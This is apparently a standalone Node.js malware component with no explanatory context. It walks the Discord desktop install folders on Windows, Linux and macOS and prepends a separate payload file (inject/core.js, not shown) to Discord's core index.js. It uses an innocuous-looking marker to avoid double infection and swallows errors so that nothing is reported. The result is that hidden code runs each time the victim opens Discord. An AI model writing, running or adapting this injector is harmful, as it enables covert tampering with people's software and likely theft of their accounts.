const fs = require('fs'), path = require('path'), os = require('os');
const roots = process.platform === 'win32'
  ? ['Discord', 'DiscordCanary', 'DiscordPTB'].map(n => path.join(process.env.LOCALAPPDATA || '', n))
  : [path.join(os.homedir(), '.config', 'discord'), path.join(os.homedir(), 'Library', 'Application Support', 'discord')];
const payload = fs.readFileSync(path.join(__dirname, '..', 'inject', 'core.js'), 'utf8');
function walk(d, depth) {
  if (depth > 6) return;
  let e = []; try { e = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
  for (const x of e) {
    const p = path.join(d, x.name);
    if (x.isDirectory()) walk(p, depth + 1);
    else if (x.name === 'index.js' && /discord_desktop_core/.test(p)) {
      try { const cur = fs.readFileSync(p, 'utf8'); if (!cur.includes('__rpc_bridge')) fs.writeFileSync(p, payload + '\n' + cur); } catch {}
    }
  }
}
roots.forEach(r => walk(r, 0));
